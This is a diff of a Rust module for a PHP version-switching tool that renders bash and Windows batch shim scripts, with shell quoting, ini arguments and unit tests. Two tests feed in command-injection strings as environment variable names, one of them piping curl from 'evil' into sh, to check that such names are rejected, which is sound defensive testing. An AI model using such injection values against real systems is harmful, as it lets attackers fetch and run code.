@@ -1,6 +1,9 @@
 // PHP tool detection and shim management module
 
+use crate::config::ToolsConfig;
 use anyhow::{anyhow, Result};
+use std::collections::BTreeMap;
+use std::ffi::OsString;
 use std::path::{Path, PathBuf};
 
 /// Represents a detected PHP tool
@@ -23,6 +26,171 @@ const COMMON_PHP_TOOLS: &[&str] = &[
     "php-config",
 ];
 
+/// Built-in shim script, used unless the user provides their own template
+///
+/// Placeholders: `{{tool_name}}`, `{{original}}`, `{{php}}`, `{{args}}` (extra
+/// PHP arguments, each followed by a space) and `{{env}}` (one `export` line per
+/// configured variable).
+pub const DEFAULT_SHIM_TEMPLATE: &str = r#"#!/bin/bash
+# Auto-generated shim for {{tool_name}} by php-switcher
+# Original: {{original}}
+{{env}}exec {{php}} {{args}}{{original}} "$@"
+"#;
+
+/// File name of the user's shim template inside the config directory
+pub const SHIM_TEMPLATE_FILE: &str = "shim.template";
+
+/// Everything needed to render shim scripts
+#[derive(Debug, Clone, PartialEq)]
+pub struct ShimSettings {
+    pub template: String,
+    pub php_args: Vec<String>,
+    pub env: BTreeMap<String, String>,
+    /// Ini settings of individual tools, by tool name
+    pub ini: BTreeMap<String, BTreeMap<String, String>>,
+    /// Permissions of the shim file (still restricted by the umask)
+    pub mode: u32,
+}
+
+impl Default for ShimSettings {
+    fn default() -> Self {
+        Self {
+            template: DEFAULT_SHIM_TEMPLATE.to_string(),
+            php_args: Vec::new(),
+            env: BTreeMap::new(),
+            ini: BTreeMap::new(),
+            mode: crate::config::DEFAULT_MODE,
+        }
+    }
+}
+
+impl ShimSettings {
+    /// Build shim settings from the tools config
+    ///
+    /// The template comes from `tools.shim_template` if set, otherwise from
+    /// `shim.template` in the config directory, otherwise the built-in default.
+    pub fn from_config(tools_config: &ToolsConfig, config_dir: &Path) -> Result<Self> {
+        let template_path = tools_config
+            .shim_template
+            .clone()
+            .unwrap_or_else(|| config_dir.join(SHIM_TEMPLATE_FILE));
+
+        let template = if template_path.exists() {
+            std::fs::read_to_string(&template_path)
+                .map_err(|e| anyhow!("Failed to read shim template {}: {}", template_path.display(), e))?
+        } else if tools_config.shim_template.is_some() {
+            return Err(anyhow!("Shim template not found: {}", template_path.display()));
+        } else {
+            DEFAULT_SHIM_TEMPLATE.to_string()
+        };
+
+        Ok(Self {
+            template,
+            php_args: tools_config.shim_php_args.clone(),
+            env: tools_config.shim_env.clone(),
+            ini: tools_config.ini.clone(),
+            mode: crate::config::DEFAULT_MODE,
+        })
+    }
+
+    /// PHP arguments for a tool's shim: the shared `php_args`, then `-d` for each of its ini settings
+    pub fn php_args_for(&self, tool_name: &str) -> Vec<String> {
+        let mut args = self.php_args.clone();
+        args.extend(self.ini.get(tool_name).map(ini_args).unwrap_or_default());
+        args
+    }
+}
+
+/// Turn ini settings into `-d key=value` PHP arguments
+pub fn ini_args(ini: &BTreeMap<String, String>) -> Vec<String> {
+    ini.iter().flat_map(|(key, value)| ["-d".to_string(), format!("{}={}", key, value)]).collect()
+}
+
+/// PHP arguments running a managed tool with its `tools.ini` settings
+///
+/// `None` unless the tool is managed and has ini settings; otherwise the
+/// `-d` arguments are followed by the tool's original script.
+pub fn ini_invocation(tools_config: &ToolsConfig, tool_name: &str) -> Option<Vec<OsString>> {
+    let ini = tools_config.ini.get(tool_name).filter(|ini| !ini.is_empty())?;
+    let tool = tools_config.managed.iter().find(|t| t.name == tool_name)?;
+
+    let mut args: Vec<OsString> = ini_args(ini).into_iter().map(OsString::from).collect();
+    args.push(tool.original_path.clone().into_os_string());
+    Some(args)
+}
+
+/// Quote a string for safe use in a POSIX shell script
+pub fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+/// Quote raw bytes the same way as `shell_quote`, for paths that may not be UTF-8
+pub(crate) fn shell_quote_bytes(value: &[u8]) -> Vec<u8> {
+    let mut quoted = vec![b'\''];
+    for &byte in value {
+        if byte == b'\'' {
+            quoted.extend_from_slice(b"'\\''");
+        } else {
+            quoted.push(byte);
+        }
+    }
+    quoted.push(b'\'');
+    quoted
+}
+
+/// Fail on `shim_env` names a shell can't set, which would break the shim or run as code
+fn check_env_names(settings: &ShimSettings) -> Result<()> {
+    match settings.env.keys().find(|key| !crate::link::is_env_name(key)) {
+        Some(key) => Err(anyhow!("Invalid environment variable name '{}' in shim_env", key)),
+        None => Ok(()),
+    }
+}
+
+/// Render the shim script for a tool
+///
+/// Returns bytes because the paths are spliced in quoted but otherwise
+/// unmodified, even when they aren't valid UTF-8.
+pub fn render_shim(tool: &PhpTool, php: &Path, settings: &ShimSettings) -> Result<Vec<u8>> {
+    check_env_names(settings)?;
+
+    let args: String = settings
+        .php_args_for(&tool.name)
+        .iter()
+        .map(|arg| format!("{} ", shell_quote(arg)))
+        .collect();
+
+    let env: String = settings
+        .env
+        .iter()
+        .map(|(key, value)| format!("export {}={}\n", key, shell_quote(value)))
+        .collect();
+
+    let text = settings
+        .template
+        .replace("{{tool_name}}", &tool.name)
+        .replace("{{args}}", &args)
+        .replace("{{env}}", &env);
+
+    let original = shell_quote_bytes(tool.original_path.as_os_str().as_encoded_bytes());
+    let with_original = replace_bytes(text.as_bytes(), b"{{original}}", &original);
+    Ok(replace_bytes(&with_original, b"{{php}}", &shell_quote_bytes(php.as_os_str().as_encoded_bytes())))
+}
+
+/// Replace every occurrence of a placeholder in a byte string
+pub(crate) fn replace_bytes(haystack: &[u8], needle: &[u8], value: &[u8]) -> Vec<u8> {
+    let mut result = Vec::with_capacity(haystack.len());
+    let mut rest = haystack;
+
+    while let Some(pos) = rest.windows(needle.len()).position(|window| window == needle) {
+        result.extend_from_slice(&rest[..pos]);
+        result.extend_from_slice(value);
+        rest = &rest[pos + needle.len()..];
+    }
+    result.extend_from_slice(rest);
+
+    result
+}
+
 /// Read the shebang line from an executable file
 pub fn read_shebang<P: AsRef<Path>>(path: P) -> Result<String> {
     use std::fs::File;
@@ -80,30 +248,25 @@ pub fn scan_for_php_tools(
     // Get search paths: custom paths + PATH environment variable
     let mut search_paths = custom_paths.to_vec();
 
-    if let Ok(path_var) = env::var("PATH") {
-        for path_str in path_var.split(':') {
-            search_paths.push(PathBuf::from(path_str));
-        }
+    // var_os: a single non-UTF8 PATH entry must not hide all the others
+    if let Some(path_var) = env::var_os("PATH") {
+        search_paths.extend(env::split_paths(&path_var));
     }
 
-    // Search for each tool
+    // List every directory once, then look each tool up in the index
+    let index = crate::which::cached(&search_paths);
     for tool_name in &tool_names {
-        for search_path in &search_paths {
-            let tool_path = search_path.join(tool_name);
-
-            // Check if the tool exists and is executable
-            if tool_path.exists() && tool_path.is_file() {
-                // Try to read shebang
-                if let Ok(shebang) = read_shebang(&tool_path) {
-                    tools.push(PhpTool {
-                        name: tool_name.clone(),
-                        original_path: tool_path.clone(),
-                        shebang,
-                    });
-
-                    // Found this tool, move to next
-                    break;
-                }
+        for tool_path in index.all(tool_name) {
+            // Try to read shebang
+            if let Ok(shebang) = read_shebang(tool_path) {
+                tools.push(PhpTool {
+                    name: tool_name.clone(),
+                    original_path: tool_path.clone(),
+                    shebang,
+                });
+
+                // Found this tool, move to next
+                break;
             }
         }
     }
@@ -111,47 +274,130 @@ pub fn scan_for_php_tools(
     Ok(tools)
 }
 
-/// Create a shim script for a PHP tool
+/// Project-local shim directory, relative to the project root
+pub const PROJECT_BIN_DIR: &str = ".php-switcher/bin";
+
+/// Find the PHP scripts Composer installed into a project's `vendor/bin`
+///
+/// Unlike global tools, these are shimmed whatever their shebang says: even
+/// `#!/usr/bin/env php` would run whichever PHP is active, not the project's.
+pub fn scan_vendor_bin(project_root: &Path) -> Vec<PhpTool> {
+    let Ok(entries) = std::fs::read_dir(project_root.join("vendor/bin")) else { return Vec::new() };
+
+    let mut tools: Vec<PhpTool> = entries
+        .flatten()
+        .filter(|entry| entry.path().is_file())
+        .filter_map(|entry| {
+            let shebang = read_shebang(entry.path()).ok()?;
+            shebang.contains("php").then(|| PhpTool {
+                name: entry.file_name().to_string_lossy().into_owned(),
+                original_path: entry.path(),
+                shebang,
+            })
+        })
+        .collect();
+    tools.sort_by(|a, b| a.name.cmp(&b.name));
+    tools
+}
+
+/// Regenerate a project's `.php-switcher/bin` with shims running `vendor/bin` tools on `php`
+///
+/// Shims of tools that are no longer in `vendor/bin` are removed.
+pub fn create_project_shims(project_root: &Path, php: &Path, settings: &ShimSettings) -> Result<Vec<PathBuf>> {
+    let bin_dir = project_root.join(PROJECT_BIN_DIR);
+    if bin_dir.exists() {
+        std::fs::remove_dir_all(&bin_dir).map_err(|e| anyhow!("Failed to clear {}: {}", bin_dir.display(), e))?;
+    }
+
+    scan_vendor_bin(project_root)
+        .iter()
+        .map(|tool| write_shim(tool, php, &bin_dir, settings))
+        .collect()
+}
+
+/// Create a shim script for a PHP tool using the built-in template
 pub fn create_shim<P: AsRef<Path>>(tool: &PhpTool, bin_dir: P) -> Result<PathBuf> {
-    use std::fs;
-    use std::os::unix::fs::PermissionsExt;
+    create_shim_with(tool, bin_dir, &ShimSettings::default())
+}
 
-    let bin_dir = bin_dir.as_ref();
+/// Create a shim script for a PHP tool using the given shim settings
+pub fn create_shim_with<P: AsRef<Path>>(tool: &PhpTool, bin_dir: P, settings: &ShimSettings) -> Result<PathBuf> {
+    // Shims always run the switcher's php, wherever the state dir lives
+    let php_name = if cfg!(windows) { "php.cmd" } else { "php" };
+    let switcher_php = crate::config::get_config_dir()?.join("bin").join(php_name);
+    write_shim(tool, &switcher_php, bin_dir.as_ref(), settings)
+}
+
+/// Write a tool's shim running `php` into `bin_dir`
+fn write_shim(tool: &PhpTool, php: &Path, bin_dir: &Path, settings: &ShimSettings) -> Result<PathBuf> {
+    use std::fs;
 
     // Create bin directory if it doesn't exist
     fs::create_dir_all(bin_dir)?;
 
-    // Determine home directory for shim script
-    let home = dirs::home_dir().ok_or_else(|| anyhow!("Could not find home directory"))?;
-    let switcher_php = home.join(".php-switcher/bin/php");
-
-    // Create shim content
-    let shim_content = format!(
-        r#"#!/bin/bash
-# Auto-generated shim for {} by php-switcher
-# Original: {}
-exec {} {} "$@"
-"#,
-        tool.name,
-        tool.original_path.display(),
-        switcher_php.display(),
-        tool.original_path.display()
-    );
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+
+        // Create shim content
+        let shim_content = render_shim(tool, php, settings)?;
 
-    // Write shim to bin directory
-    let shim_path = bin_dir.join(&tool.name);
-    fs::write(&shim_path, shim_content)?;
+        // Write shim to bin directory
+        let shim_path = bin_dir.join(&tool.name);
+        fs::write(&shim_path, shim_content)?;
 
-    // Make shim executable (755 permissions)
-    fs::set_permissions(&shim_path, fs::Permissions::from_mode(0o755))?;
+        // Make shim executable with the configured mode, honoring the umask
+        fs::set_permissions(&shim_path, fs::Permissions::from_mode(crate::platform::apply_umask(settings.mode)))?;
+
+        Ok(shim_path)
+    }
 
-    Ok(shim_path)
+    #[cfg(not(unix))]
+    {
+        let shim_path = bin_dir.join(format!("{}.cmd", tool.name));
+        fs::write(&shim_path, render_cmd_shim(tool, php, settings)?)?;
+        Ok(shim_path)
+    }
+}
+
+/// Render a batch file shim for a tool, used on Windows
+///
+/// `cmd.exe` can't run the bash template, so a custom template doesn't
+/// apply here; PHP arguments, ini settings and environment variables do.
+pub fn render_cmd_shim(tool: &PhpTool, php: &Path, settings: &ShimSettings) -> Result<String> {
+    use crate::platform::windows::cmd_quote;
+
+    check_env_names(settings)?;
+
+    let args: String = settings
+        .php_args_for(&tool.name)
+        .iter()
+        .map(|arg| format!("{} ", cmd_quote(arg)))
+        .collect();
+
+    let env: String = settings
+        .env
+        .iter()
+        .map(|(key, value)| format!("set \"{}={}\"\r\n", key, value.replace('%', "%%")))
+        .collect();
+
+    // `call` runs both php.exe and the switcher's own php.cmd
+    Ok(format!(
+        "@echo off\r\nrem Auto-generated shim for {} by php-switcher\r\nrem Original: {}\r\n{}call {} {}{} %*\r\n",
+        tool.name,
+        tool.original_path.display(),
+        env,
+        cmd_quote(&php.display().to_string()),
+        args,
+        cmd_quote(&tool.original_path.display().to_string())
+    ))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use std::fs;
+    #[cfg(unix)]
     use std::os::unix::fs::PermissionsExt;
     use tempfile::TempDir;
 
@@ -219,6 +465,7 @@ mod tests {
     }
 
     #[test]
+    #[cfg(unix)]
     fn test_scan_for_tools_in_path() {
         let temp_dir = TempDir::new().unwrap();
         let bin_dir = temp_dir.path().join("bin");
@@ -235,7 +482,7 @@ mod tests {
         fs::set_permissions(&phpunit_path, fs::Permissions::from_mode(0o755)).unwrap();
 
         // Scan with custom path
-        let tools = scan_for_php_tools(&[], &[bin_dir.clone()]).unwrap();
+        let tools = scan_for_php_tools(&[], std::slice::from_ref(&bin_dir)).unwrap();
 
         // Should find both tools
         assert!(tools.len() >= 2);
@@ -267,6 +514,7 @@ mod tests {
     }
 
     #[test]
+    #[cfg(unix)]
     fn test_scan_with_custom_tools() {
         let temp_dir = TempDir::new().unwrap();
         let bin_dir = temp_dir.path().join("bin");
@@ -319,6 +567,157 @@ mod tests {
     }
 
     #[test]
+    fn test_render_shim_default_template() {
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from("/usr/bin/composer"),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+
+        let content = String::from_utf8(render_shim(&tool, Path::new("/home/u/.php-switcher/bin/php"), &ShimSettings::default()).unwrap()).unwrap();
+
+        assert!(content.contains("# Auto-generated shim for composer"));
+        assert!(content.contains("exec '/home/u/.php-switcher/bin/php' '/usr/bin/composer' \"$@\""));
+    }
+
+    #[test]
+    fn test_render_shim_with_args_and_env() {
+        let tool = PhpTool {
+            name: "box".to_string(),
+            original_path: PathBuf::from("/usr/local/bin/box"),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+
+        let mut settings = ShimSettings {
+            template: "{{env}}nice -n 10 {{php}} {{args}}{{original}} \"$@\"\n".to_string(),
+            php_args: vec!["-d".to_string(), "memory_limit=-1".to_string()],
+            ..Default::default()
+        };
+        settings.env.insert("HTTP_PROXY".to_string(), "http://proxy:3128".to_string());
+
+        let content = String::from_utf8(render_shim(&tool, Path::new("/php"), &settings).unwrap()).unwrap();
+
+        assert_eq!(
+            content,
+            "export HTTP_PROXY='http://proxy:3128'\nnice -n 10 '/php' '-d' 'memory_limit=-1' '/usr/local/bin/box' \"$@\"\n"
+        );
+    }
+
+    #[test]
+    fn test_render_shim_with_tool_ini() {
+        let tool = |name: &str| PhpTool {
+            name: name.to_string(),
+            original_path: PathBuf::from(format!("/usr/local/bin/{}", name)),
+            shebang: "#!/usr/bin/env php".to_string(),
+        };
+
+        let mut settings = ShimSettings { php_args: vec!["-n".to_string()], ..Default::default() };
+        settings
+            .ini
+            .insert("box".to_string(), BTreeMap::from([("phar.readonly".to_string(), "0".to_string())]));
+
+        let content = String::from_utf8(render_shim(&tool("box"), Path::new("/php"), &settings).unwrap()).unwrap();
+        assert!(content.contains("exec '/php' '-n' '-d' 'phar.readonly=0' '/usr/local/bin/box' \"$@\"\n"));
+
+        // Other tools only get the shared arguments
+        let content = String::from_utf8(render_shim(&tool("composer"), Path::new("/php"), &settings).unwrap()).unwrap();
+        assert!(content.contains("exec '/php' '-n' '/usr/local/bin/composer' \"$@\"\n"));
+    }
+
+    #[test]
+    fn test_ini_invocation() {
+        let mut tools_config = ToolsConfig::default();
+        tools_config.managed.push(crate::config::ToolEntry {
+            name: "box".to_string(),
+            original_path: PathBuf::from("/usr/local/bin/box"),
+            shebang: "#!/usr/bin/env php".to_string(),
+            shim_created: true,
+        });
+        assert_eq!(ini_invocation(&tools_config, "box"), None);
+
+        tools_config
+            .ini
+            .insert("box".to_string(), BTreeMap::from([("phar.readonly".to_string(), "0".to_string())]));
+        assert_eq!(
+            ini_invocation(&tools_config, "box"),
+            Some(vec![OsString::from("-d"), OsString::from("phar.readonly=0"), OsString::from("/usr/local/bin/box")])
+        );
+        assert_eq!(ini_invocation(&tools_config, "composer"), None);
+    }
+
+    #[test]
+    fn test_render_shim_quotes_paths() {
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from("/opt/my tools/it's $HOME/composer"),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+
+        let content = String::from_utf8(render_shim(&tool, Path::new("/Users/me/PHP Versions/php"), &ShimSettings::default()).unwrap()).unwrap();
+
+        assert!(content.contains("# Original: '/opt/my tools/it'\\''s $HOME/composer'\n"));
+        assert!(content.contains("exec '/Users/me/PHP Versions/php' '/opt/my tools/it'\\''s $HOME/composer' \"$@\""));
+    }
+
+    #[test]
+    fn test_render_shim_rejects_bad_env_names() {
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from("/usr/bin/composer"),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+        let mut settings = ShimSettings::default();
+        settings.env.insert("PROXY=$(curl evil|sh);X".to_string(), String::new());
+        assert!(render_shim(&tool, Path::new("/php"), &settings).is_err());
+    }
+
+    #[test]
+    fn test_shell_quote() {
+        assert_eq!(shell_quote("plain"), "'plain'");
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
+    }
+
+    #[test]
+    fn test_shim_settings_from_config_dir() {
+        let temp_dir = TempDir::new().unwrap();
+        let tools_config = ToolsConfig::default();
+
+        // No template file: built-in default
+        let settings = ShimSettings::from_config(&tools_config, temp_dir.path()).unwrap();
+        assert_eq!(settings.template, DEFAULT_SHIM_TEMPLATE);
+
+        // Template file in the config dir overrides the default
+        fs::write(temp_dir.path().join(SHIM_TEMPLATE_FILE), "custom {{php}}").unwrap();
+        let settings = ShimSettings::from_config(&tools_config, temp_dir.path()).unwrap();
+        assert_eq!(settings.template, "custom {{php}}");
+
+        // An explicitly configured template must exist
+        let missing = ToolsConfig {
+            shim_template: Some(temp_dir.path().join("missing.template")),
+            ..Default::default()
+        };
+        assert!(ShimSettings::from_config(&missing, temp_dir.path()).is_err());
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_render_shim_keeps_non_utf8_paths() {
+        use std::ffi::OsStr;
+        use std::os::unix::ffi::OsStrExt;
+
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from(OsStr::from_bytes(b"/opt/caf\xe9/composer")),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+
+        let content = render_shim(&tool, Path::new("/php"), &ShimSettings::default()).unwrap();
+        let expected: &[u8] = b"exec '/php' '/opt/caf\xe9/composer' \"$@\"";
+        assert!(content.windows(expected.len()).any(|window| window == expected));
+    }
+
+    #[test]
+    #[cfg(unix)]
     fn test_create_shim_preserves_permissions() {
         let temp_dir = TempDir::new().unwrap();
         let bin_dir = temp_dir.path().join("bin");
@@ -338,4 +737,72 @@ mod tests {
         // Check executable bit
         assert_ne!(permissions.mode() & 0o111, 0);
     }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_create_shim_with_custom_mode() {
+        let temp_dir = TempDir::new().unwrap();
+        let bin_dir = temp_dir.path().join("bin");
+
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from("/usr/local/bin/composer"),
+            shebang: "#!/usr/bin/php".to_string(),
+        };
+        let settings = ShimSettings { mode: 0o700, ..Default::default() };
+
+        let shim_path = create_shim_with(&tool, &bin_dir, &settings).unwrap();
+
+        let mode = fs::metadata(&shim_path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, crate::platform::apply_umask(0o700));
+        assert_eq!(mode & 0o077, 0);
+    }
+
+    #[test]
+    fn test_create_project_shims() {
+        let temp_dir = TempDir::new().unwrap();
+        let project = temp_dir.path();
+        let vendor_bin = project.join("vendor/bin");
+        fs::create_dir_all(&vendor_bin).unwrap();
+        fs::write(vendor_bin.join("phpunit"), "#!/usr/bin/env php\n<?php\n").unwrap();
+        fs::write(vendor_bin.join("phpstan"), "#!/usr/bin/env php\n<?php\n").unwrap();
+        fs::write(vendor_bin.join("run.sh"), "#!/bin/sh\n").unwrap();
+
+        let stale = project.join(PROJECT_BIN_DIR).join("psalm");
+        fs::create_dir_all(stale.parent().unwrap()).unwrap();
+        fs::write(&stale, "").unwrap();
+
+        let php = Path::new("/usr/bin/php8.1");
+        let shims = create_project_shims(project, php, &ShimSettings::default()).unwrap();
+        let names: Vec<_> = shims.iter().map(|s| s.file_name().unwrap().to_str().unwrap()).collect();
+        assert_eq!(names, ["phpstan", "phpunit"]);
+        assert!(!stale.exists());
+
+        let content = fs::read_to_string(project.join(PROJECT_BIN_DIR).join("phpunit")).unwrap();
+        assert!(content.contains(&format!("exec '/usr/bin/php8.1' '{}'", vendor_bin.join("phpunit").display())));
+    }
+
+    #[test]
+    fn test_render_cmd_shim() {
+        let tool = PhpTool {
+            name: "composer".to_string(),
+            original_path: PathBuf::from(r"C:\ProgramData\ComposerSetup\bin\composer.phar"),
+            shebang: "#!/usr/bin/env php".to_string(),
+        };
+        let settings = ShimSettings {
+            php_args: vec!["-d".to_string(), "memory_limit=-1".to_string()],
+            env: BTreeMap::from([("COMPOSER_HOME".to_string(), r"%APPDATA%\Composer".to_string())]),
+            ..ShimSettings::default()
+        };
+
+        let shim = render_cmd_shim(&tool, Path::new(r"C:\Users\dev\.php-switcher\bin\php.cmd"), &settings).unwrap();
+        assert!(shim.starts_with("@echo off\r\n"));
+        assert!(shim.contains("set \"COMPOSER_HOME=%%APPDATA%%\\Composer\"\r\n"));
+        assert!(shim.ends_with(
+            "call \"C:\\Users\\dev\\.php-switcher\\bin\\php.cmd\" \"-d\" \"memory_limit=-1\" \"C:\\ProgramData\\ComposerSetup\\bin\\composer.phar\" %*\r\n"
+        ));
+        let mut settings = settings;
+        settings.env.insert("X\"&calc&\"".to_string(), String::new());
+        assert!(render_cmd_shim(&tool, Path::new("php.cmd"), &settings).is_err());
+    }
 }